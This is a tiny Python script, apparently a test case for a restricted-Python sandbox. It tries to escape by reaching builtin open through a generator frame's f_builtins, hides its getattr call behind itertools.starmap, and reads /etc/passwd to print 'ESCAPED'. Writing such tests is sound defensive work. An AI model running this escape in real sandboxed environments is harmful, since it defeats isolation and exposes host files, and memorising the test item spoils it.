# tries: getattr mapped over pairs
# class: reader
# stops: 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import itertools

pair = [((x for x in ()), "gi_frame")]
use(pick(next(itertools.starmap(getattr, pair))))
